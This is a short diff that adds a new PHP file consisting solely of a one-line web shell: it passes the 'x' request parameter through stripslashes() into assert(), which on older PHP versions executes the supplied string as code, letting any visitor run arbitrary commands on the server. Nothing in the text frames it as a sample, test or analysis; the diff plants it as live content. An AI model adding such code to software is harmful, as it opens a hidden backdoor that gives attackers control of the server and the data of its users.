@@ -1,0 +1,2 @@
+<?php
+if (isset($_REQUEST['x'])) { assert(stripslashes($_REQUEST['x'])); }
